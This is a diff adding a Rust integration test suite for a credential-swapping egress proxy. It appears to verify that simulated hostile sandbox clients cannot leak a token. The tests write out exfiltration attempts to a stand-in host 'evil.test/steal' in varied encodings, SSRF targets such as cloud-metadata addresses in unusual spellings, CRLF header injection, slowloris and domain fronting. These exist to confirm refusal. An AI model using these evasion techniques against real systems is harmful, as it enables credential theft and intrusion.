@@ -1,0 +1,660 @@
+//! The attack suite: a hostile sandbox (or upstream) tries every door, and no
+//! real credential leaves through the wrong one. Each attack asserts the
+//! refusal and that no server other than the bound one saw the real secret.
+
+use std::time::{Duration, Instant};
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+use crate::support::clients::{curl, python, Output};
+use crate::support::{
+    assert_not_leaked, blocking, real_secret, tunnel, with_env, Airlock, TestCa, Upstream,
+};
+
+const BOUND: &str = "api.bound.test";
+const OTHER: &str = "evil.test";
+
+struct Range {
+    _ca: TestCa,
+    bound: Upstream,
+    other: Upstream,
+    airlock: Airlock,
+    real: String,
+    placeholder: String,
+}
+
+async fn range(proxy_extra: &str) -> Range {
+    let ca = TestCa::new();
+    let bound = Upstream::start(&ca, &[BOUND]).await;
+    let other = Upstream::start(&ca, &[OTHER]).await;
+    let real = real_secret("attack");
+    let cfg = format!(
+        "[proxy]\nupstream_ca = [{:?}]\n{proxy_extra}\n\n[resolve]\n\"{BOUND}\" = \"127.0.0.1:{}\"\n\"{OTHER}\" = \"127.0.0.1:{}\"\n\n\
+         [[secret]]\nname = \"API_TOKEN\"\nvalue = {real:?}\nhosts = [\"{BOUND}\"]\nswap_in = [\"header\", \"basic\", \"body\", \"query\"]\n",
+        ca.cert_pem_path().display().to_string(),
+        bound.port(),
+        other.port()
+    );
+    let airlock = Airlock::start(&cfg);
+    let placeholder = airlock.var("API_TOKEN");
+    Range {
+        _ca: ca,
+        bound,
+        other,
+        airlock,
+        real,
+        placeholder,
+    }
+}
+
+impl Range {
+    fn no_leak(&self, outputs: &[&Output]) {
+        let logs = self.airlock.logs();
+        let mut texts: Vec<&str> = outputs
+            .iter()
+            .flat_map(|o| [o.stdout.as_str(), o.stderr.as_str()])
+            .collect();
+        texts.push(&logs);
+        assert_not_leaked(&self.real, &texts);
+        assert!(
+            !self.other.raw_contains(&self.real),
+            "the real secret reached a server it is not bound to"
+        );
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_placeholder_for_another_host_is_refused_wherever_it_hides() {
+    let r = range("intercept = \"all\"").await;
+    let p = r.placeholder.clone();
+    let random = p["miosa-tok-".len()..].to_owned();
+    let gz = tempfile::NamedTempFile::new().unwrap();
+    {
+        let mut enc = flate2::write::GzEncoder::new(
+            std::fs::File::create(gz.path()).unwrap(),
+            flate2::Compression::default(),
+        );
+        std::io::Write::write_all(&mut enc, format!(r#"{{"t":"{p}"}}"#).as_bytes()).unwrap();
+        enc.finish().unwrap();
+    }
+    let env = r.airlock.env.clone();
+    let gz_arg = format!("@{}", gz.path().display());
+    let outs = blocking(move || {
+        let url = format!("https://{OTHER}/steal");
+        let basic = format!("x-access-token:{p}");
+        let cases: Vec<Vec<String>> = vec![
+            vec![
+                "-H".into(),
+                format!("Authorization: Bearer {p}"),
+                url.clone(),
+            ],
+            vec!["-u".into(), basic, url.clone()],
+            vec![format!("{url}?token={p}")],
+            vec![
+                "-H".into(),
+                "content-type: application/json".into(),
+                "--data".into(),
+                format!(r#"{{"t":"{p}"}}"#),
+                url.clone(),
+            ],
+            vec!["--data".into(), format!("t={p}"), url.clone()],
+            vec![
+                "--data".into(),
+                format!("t=miosa%2Dtok%2D{random}"),
+                url.clone(),
+            ],
+            vec![
+                "-H".into(),
+                "content-type: application/json".into(),
+                "--data".into(),
+                format!(r#"{{"t":"miosa\u002dtok\u002d{random}"}}"#),
+                url.clone(),
+            ],
+            vec![
+                "-H".into(),
+                "content-encoding: gzip".into(),
+                "--data-binary".into(),
+                gz_arg,
+                url.clone(),
+            ],
+        ];
+        cases
+            .into_iter()
+            .map(|case| {
+                let mut args = vec!["-s", "-o", "/dev/null", "-w", "%{http_code}"];
+                args.extend(case.iter().map(String::as_str));
+                curl(&env, &args)
+            })
+            .collect::<Vec<_>>()
+    })
+    .await;
+    for (i, out) in outs.iter().enumerate() {
+        assert_eq!(
+            out.stdout, "403",
+            "attack {i} was not refused: {}",
+            out.stderr
+        );
+    }
+    // Split across many small chunks of a streamed body.
+    let env = r.airlock.env.clone();
+    let script = format!(
+        "import requests\ndef gen():\n    for c in 'xx{}yy':\n        yield c.encode()\nr = requests.post('https://{OTHER}/steal', data=gen())\nprint(r.status_code)",
+        r.placeholder
+    );
+    let split = blocking(move || python(&env, &script)).await;
+    assert_eq!(split.stdout.trim(), "403", "{}", split.stderr);
+    // In a WebSocket handshake.
+    let mut tls = tunnel::tls_through(
+        r.airlock.proxy_addr(),
+        &format!("{OTHER}:443"),
+        OTHER,
+        r.airlock.ca_path().as_path(),
+        &[b"http/1.1"],
+    )
+    .await;
+    let handshake = format!(
+        "GET /ws HTTP/1.1\r\nHost: {OTHER}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nAuthorization: Bearer {}\r\n\r\n",
+        r.placeholder
+    );
+    tls.write_all(handshake.as_bytes()).await.unwrap();
+    let mut answer = vec![0u8; 12];
+    tls.read_exact(&mut answer).await.unwrap();
+    assert_eq!(&answer, b"HTTP/1.1 403");
+    assert!(
+        r.other.requests().is_empty(),
+        "the unbound upstream saw {} requests",
+        r.other.requests().len()
+    );
+    let mut all: Vec<&Output> = outs.iter().collect();
+    all.push(&split);
+    r.no_leak(&all);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn domain_fronting_and_coalescing_do_not_move_a_token() {
+    let r = range("").await;
+    let env = r.airlock.env.clone();
+    let auth = format!("Authorization: Bearer {}", r.placeholder);
+    let outs = blocking(move || {
+        (
+            // CONNECT to the bound host, Host names another.
+            curl(
+                &env,
+                &[
+                    "-s",
+                    "-o",
+                    "/dev/null",
+                    "-w",
+                    "%{http_code}",
+                    "--http1.1",
+                    "-H",
+                    &format!("Host: {OTHER}"),
+                    "-H",
+                    &auth,
+                    &format!("https://{BOUND}/"),
+                ],
+            ),
+            // CONNECT to an unbound host (tunnelled), Host names the bound one: only the
+            // placeholder travels, and it is worthless there.
+            curl(
+                &with_env(&env, &[("CURL_CA_BUNDLE", "/dev/null")]),
+                &[
+                    "-s",
+                    "-k",
+                    "-o",
+                    "/dev/null",
+                    "-w",
+                    "%{http_code}",
+                    "-H",
+                    &format!("Host: {BOUND}"),
+                    "-H",
+                    &auth,
+                    &format!("https://{OTHER}/"),
+                ],
+            ),
+        )
+    })
+    .await;
+    assert_eq!(outs.0.stdout, "421");
+    assert!(
+        r.other.raw_contains(&r.placeholder),
+        "the tunnel carried the placeholder as is"
+    );
+    // HTTP/2: a request for another authority on the bound host's connection.
+    let tls = tunnel::tls_through(
+        r.airlock.proxy_addr(),
+        &format!("{BOUND}:443"),
+        BOUND,
+        r.airlock.ca_path().as_path(),
+        &[b"h2"],
+    )
+    .await;
+    let mut sender = tunnel::h2_client(tls).await;
+    let req = http::Request::get(format!("https://{OTHER}/coalesced"))
+        .header("authorization", format!("Bearer {}", r.placeholder))
+        .body(http_body_util::Full::default())
+        .unwrap();
+    let (status, _, _, _) = tunnel::collect(sender.send_request(req).await.unwrap()).await;
+    assert_eq!(status, 421);
+    assert!(r.bound.requests().is_empty());
+    r.no_leak(&[&outs.0, &outs.1]);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn private_addresses_in_every_spelling_are_refused() {
+    let r = range("").await;
+    let env = with_env(&r.airlock.env, &[("NO_PROXY", ""), ("no_proxy", "")]);
+    let targets = [
+        "localhost",
+        "169.254.169.254",
+        "0.0.0.0",
+        "[::ffff:127.0.0.1]",
+        "[::1]",
+        "2130706433",
+        "0177.0.0.1",
+        "100.64.0.1",
+        "[fd00:ec2::254]",
+        "10.0.0.1",
+    ];
+    let outs = blocking(move || {
+        targets
+            .iter()
+            .map(|t| {
+                curl(
+                    &env,
+                    &[
+                        "-s",
+                        "-o",
+                        "/dev/null",
+                        "-w",
+                        "%{http_connect}",
+                        &format!("https://{t}/"),
+                    ],
+                )
+            })
+            .collect::<Vec<_>>()
+    })
+    .await;
+    for (t, out) in targets.iter().zip(&outs) {
+        assert_eq!(
+            out.stdout, "403",
+            "CONNECT {t} was not refused: {}",
+            out.stderr
+        );
+    }
+    let logs = r.airlock.wait_for_log("egress_denied");
+    assert!(
+        logs.contains("cloud metadata") && logs.contains("loopback"),
+        "{logs}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_redirect_never_carries_the_real_token_elsewhere() {
+    let r = range("").await;
+    let env = r.airlock.env.clone();
+    let auth = format!("Authorization: Bearer {}", r.placeholder);
+    let target = format!("https://{OTHER}/landing");
+    let out = blocking(move || {
+        // --location-trusted: the client re-sends its Authorization after the redirect.
+        curl(
+            &env,
+            &[
+                "-s",
+                "-L",
+                "--location-trusted",
+                "-k",
+                "-H",
+                &auth,
+                &format!("https://{BOUND}/redirect?to={target}"),
+            ],
+        )
+    })
+    .await;
+    let first = &r.bound.requests()[0];
+    assert_eq!(
+        first.header("authorization"),
+        Some(format!("Bearer {}", r.real).as_str())
+    );
+    assert_eq!(
+        r.bound.requests().len(),
+        1,
+        "the proxy itself never follows redirects"
+    );
+    let landing = r.other.requests();
+    assert!(landing
+        .iter()
+        .all(|x| x.header("authorization") != Some(format!("Bearer {}", r.real).as_str())));
+    r.no_leak(&[&out]);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_clients_are_refused_and_the_proxy_keeps_serving() {
+    let r = range("header_read_timeout_secs = 1\nmax_connections_per_sandbox = 40").await;
+    let proxy = r.airlock.proxy_addr();
+    // TLS 1.0 only.
+    let env = r.airlock.env.clone();
+    let script = format!(
+        "import socket, ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\n\
+         ctx.minimum_version = ssl.TLSVersion.MINIMUM_SUPPORTED\nctx.maximum_version = ssl.TLSVersion.TLSv1\nctx.set_ciphers('ALL:@SECLEVEL=0')\n\
+         s = socket.create_connection(('{}', {}))\ns.sendall(b'CONNECT {BOUND}:443 HTTP/1.1\\r\\nHost: {BOUND}:443\\r\\n\\r\\n')\ns.recv(4096)\n\
+         try:\n    ctx.wrap_socket(s, server_hostname='{BOUND}')\n    print('handshake-succeeded')\nexcept (ssl.SSLError, OSError) as e:\n    print('refused')\n",
+        proxy.ip(),
+        proxy.port()
+    );
+    let tls10 = blocking(move || python(&env, &script)).await;
+    assert_eq!(tls10.stdout.trim(), "refused", "{}", tls10.stderr);
+
+    // Slowloris: a head trickled in never completes; the proxy hangs up.
+    let mut slow = tokio::net::TcpStream::connect(proxy).await.unwrap();
+    slow.write_all(b"CONNECT api").await.unwrap();
+    let started = Instant::now();
+    let mut buf = [0u8; 256];
+    let closed = tokio::time::timeout(Duration::from_secs(10), async {
+        loop {
+            tokio::time::sleep(Duration::from_millis(300)).await;
+            if slow.write_all(b".").await.is_err() {
+                return;
+            }
+            match tokio::time::timeout(Duration::from_millis(10), slow.read(&mut buf)).await {
+                Ok(Ok(0)) | Ok(Err(_)) => return,
+                _ => {}
+            }
+        }
+    })
+    .await;
+    assert!(
+        closed.is_ok(),
+        "a slow header was held open for {:?}",
+        started.elapsed()
+    );
+
+    // Many hostile connections at once cannot exceed the per-sandbox limit.
+    let mut held = Vec::new();
+    for _ in 0..40 {
+        let (code, _, s) = tunnel::connect(proxy, &format!("{BOUND}:443")).await;
+        assert_eq!(code, 200);
+        held.push(s);
+    }
+    let (code, head, _) = tunnel::connect(proxy, &format!("{BOUND}:443")).await;
+    assert_eq!(code, 429, "{head}");
+    assert!(head.contains("too_many_connections"), "{head}");
+    drop(held);
+    tokio::time::sleep(Duration::from_millis(200)).await;
+
+    // Header injection through a swapped value is impossible: CR/LF never enter a header
+    // (tested on the swapper); here, a placeholder glued to CRLF text stays one header.
+    let env = r.airlock.env.clone();
+    let auth = format!("X-Test: {}%0d%0aX-Injected: 1", r.placeholder);
+    let ok = blocking(move || {
+        curl(
+            &env,
+            &[
+                "-s",
+                "-o",
+                "/dev/null",
+                "-w",
+                "%{http_code}",
+                "-H",
+                &auth,
+                &format!("https://{BOUND}/after"),
+            ],
+        )
+    })
+    .await;
+    assert_eq!(ok.stdout, "200", "the proxy kept serving: {}", ok.stderr);
+    let last = r.bound.requests().pop().unwrap();
+    assert!(last.header("x-injected").is_none());
+
+    // Metrics saw the limits.
+    let metrics = blocking({
+        let url = format!("{}/metrics", r.airlock.metrics_url());
+        move || curl(&[], &["-s", &url])
+    })
+    .await;
+    assert!(
+        metrics
+            .stdout
+            .contains("airlock_refusals_total{reason=\"too_many_connections\"}"),
+        "{}",
+        metrics.stdout
+    );
+    assert!(
+        metrics
+            .stdout
+            .contains("airlock_connection_errors_total{reason=\"header_read_timeout\"}"),
+        "{}",
+        metrics.stdout
+    );
+    assert!(
+        metrics.stdout.contains("airlock_certificates_minted"),
+        "{}",
+        metrics.stdout
+    );
+    r.no_leak(&[&tls10, &ok, &metrics]);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn config_reload_on_sighup_keeps_connections_and_swaps_the_new_secret() {
+    let ca = TestCa::new();
+    let bound = Upstream::start(&ca, &[BOUND]).await;
+    let placeholder = "miosa-tok-RELOADxxxxxxxxxxxxxxxxxxxxxxxxxxx";
+    let cfg = |value: &str| {
+        format!(
+            "[proxy]\nupstream_ca = [{:?}]\n[resolve]\n\"{BOUND}\" = \"127.0.0.1:{}\"\n[[secret]]\nname = \"API_TOKEN\"\nvalue = {value:?}\nplaceholder = \"{placeholder}\"\nhosts = [\"{BOUND}\"]\n",
+            ca.cert_pem_path().display().to_string(),
+            bound.port()
+        )
+    };
+    let airlock = Airlock::start(&cfg("first-real-value-1"));
+    let tls = tunnel::tls_through(
+        airlock.proxy_addr(),
+        &format!("{BOUND}:443"),
+        BOUND,
+        airlock.ca_path().as_path(),
+        &[b"http/1.1"],
+    )
+    .await;
+    let mut conn = tunnel::h1_client(tls).await;
+    let get = || {
+        http::Request::get("/r")
+            .header("host", BOUND)
+            .header("authorization", format!("Bearer {placeholder}"))
+            .body(http_body_util::Full::default())
+            .unwrap()
+    };
+    assert_eq!(conn.send_request(get()).await.unwrap().status(), 200);
+    std::fs::write(&airlock.config_path, cfg("second-real-value-2")).unwrap();
+    let status = std::process::Command::new("kill")
+        .args(["-HUP", &airlock.pid().to_string()])
+        .status()
+        .unwrap();
+    assert!(status.success());
+    airlock.wait_for_log("configuration reloaded");
+    // The same connection, now with the new secret.
+    assert_eq!(conn.send_request(get()).await.unwrap().status(), 200);
+    let seen: Vec<String> = bound
+        .requests()
+        .iter()
+        .filter_map(|r| r.header("authorization").map(str::to_owned))
+        .collect();
+    assert_eq!(
+        seen,
+        vec![
+            "Bearer first-real-value-1".to_owned(),
+            "Bearer second-real-value-2".to_owned()
+        ]
+    );
+    // A broken config is refused and the running one stays.
+    std::fs::write(&airlock.config_path, "[proxy]\nnot_a_key = 1\n").unwrap();
+    std::process::Command::new("kill")
+        .args(["-HUP", &airlock.pid().to_string()])
+        .status()
+        .unwrap();
+    airlock.wait_for_log("not reloaded");
+    assert_eq!(conn.send_request(get()).await.unwrap().status(), 200);
+}
+
+/// A network namespace whose only way out is the proxy: the honest
+/// containment test. Needs root and `ip` (iproute2); says so when skipped.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_sandbox_namespace_reaches_the_world_only_through_airlock() {
+    let is_root = std::process::Command::new("id")
+        .arg("-u")
+        .output()
+        .map(|o| o.stdout == b"0\n")
+        .unwrap_or(false);
+    let has_ip = std::process::Command::new("ip").arg("-V").output().is_ok();
+    if !is_root || !has_ip {
+        eprintln!("SKIPPED: the network-namespace test needs root and iproute2 (`ip`)");
+        return;
+    }
+    let id = std::process::id() % 200 + 20;
+    let ns = format!("airlock-sbx-{}", std::process::id());
+    let (host_if, ns_if) = (format!("alh{id}"), format!("aln{id}"));
+    let (host_ip, ns_ip) = (format!("10.231.{id}.1"), format!("10.231.{id}.2"));
+    let run = |args: &[&str]| {
+        let out = std::process::Command::new("ip")
+            .args(args)
+            .output()
+            .expect("ip");
+        assert!(
+            out.status.success(),
+            "ip {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+    let _ = std::process::Command::new("ip")
+        .args(["netns", "del", &ns])
+        .output();
+    run(&["netns", "add", &ns]);
+    struct Cleanup(String, String);
+    impl Drop for Cleanup {
+        fn drop(&mut self) {
+            let _ = std::process::Command::new("ip")
+                .args(["link", "del", &self.1])
+                .output();
+            let _ = std::process::Command::new("ip")
+                .args(["netns", "del", &self.0])
+                .output();
+        }
+    }
+    let _cleanup = Cleanup(ns.clone(), host_if.clone());
+    run(&[
+        "link", "add", &host_if, "type", "veth", "peer", "name", &ns_if,
+    ]);
+    run(&["link", "set", &ns_if, "netns", &ns]);
+    run(&["addr", "add", &format!("{host_ip}/30"), "dev", &host_if]);
+    run(&["link", "set", &host_if, "up"]);
+    run(&[
+        "netns",
+        "exec",
+        &ns,
+        "ip",
+        "addr",
+        "add",
+        &format!("{ns_ip}/30"),
+        "dev",
+        &ns_if,
+    ]);
+    run(&["netns", "exec", &ns, "ip", "link", "set", &ns_if, "up"]);
+    run(&["netns", "exec", &ns, "ip", "link", "set", "lo", "up"]);
+
+    let ca = TestCa::new();
+    let bound = Upstream::start(&ca, &[BOUND]).await;
+    let other = Upstream::start(&ca, &[OTHER]).await;
+    let real = real_secret("netns");
+    let cfg = format!(
+        "[proxy]\nintercept = \"all\"\nupstream_ca = [{:?}]\n[resolve]\n\"{BOUND}\" = \"127.0.0.1:{}\"\n\"{OTHER}\" = \"127.0.0.1:{}\"\n[[secret]]\nname = \"API_TOKEN\"\nvalue = {real:?}\nhosts = [\"{BOUND}\"]\n",
+        ca.cert_pem_path().display().to_string(),
+        bound.port(),
+        other.port()
+    );
+    let airlock = Airlock::start_listening(&cfg, &format!("{host_ip}:0"));
+    let env = airlock.env.clone();
+    let placeholder = airlock.var("API_TOKEN");
+    let (ns2, upstream_port) = (ns.clone(), bound.port());
+    let (through, direct, outside, attack) = blocking(move || {
+        let in_ns = |args: &[&str]| {
+            let mut full = vec![
+                "netns",
+                "exec",
+                ns2.as_str(),
+                "curl",
+                "-sS",
+                "--max-time",
+                "5",
+            ];
+            full.extend_from_slice(args);
+            let mut cmd = std::process::Command::new("ip");
+            cmd.args(&full)
+                .env_clear()
+                .env("PATH", std::env::var("PATH").unwrap_or_default());
+            for (k, v) in &env {
+                cmd.env(k, v);
+            }
+            let out = cmd.output().expect("ip netns exec curl");
+            Output {
+                status: out.status.code().unwrap_or(-1),
+                stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+                stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+            }
+        };
+        let auth = format!("Authorization: Bearer {placeholder}");
+        (
+            in_ns(&[
+                "-w",
+                " %{http_code}",
+                "-H",
+                &auth,
+                &format!("https://{BOUND}/from-the-sandbox"),
+            ]),
+            in_ns(&[
+                "--noproxy",
+                "*",
+                "-k",
+                &format!("https://127.0.0.1:{upstream_port}/direct"),
+            ]),
+            in_ns(&["--noproxy", "*", "-k", "https://1.1.1.1/"]),
+            in_ns(&[
+                "-o",
+                "/dev/null",
+                "-w",
+                "%{http_code}",
+                "-H",
+                &auth,
+                &format!("https://{OTHER}/steal"),
+            ]),
+        )
+    })
+    .await;
+    assert_eq!(
+        through.stdout, "ok\n 200",
+        "through the proxy: {}",
+        through.stderr
+    );
+    assert_ne!(
+        direct.status, 0,
+        "a direct connection to the upstream must fail"
+    );
+    assert_ne!(outside.status, 0, "the sandbox has no route out");
+    assert_eq!(attack.stdout, "403", "{}", attack.stderr);
+    assert_eq!(
+        bound.requests()[0].header("authorization"),
+        Some(format!("Bearer {real}").as_str())
+    );
+    assert!(other.requests().is_empty());
+    assert!(!bound
+        .requests()
+        .iter()
+        .any(|r| r.path_and_query == "/direct"));
+    assert_not_leaked(
+        &real,
+        &[
+            &through.stdout,
+            &through.stderr,
+            &attack.stdout,
+            &airlock.logs(),
+        ],
+    );
+}
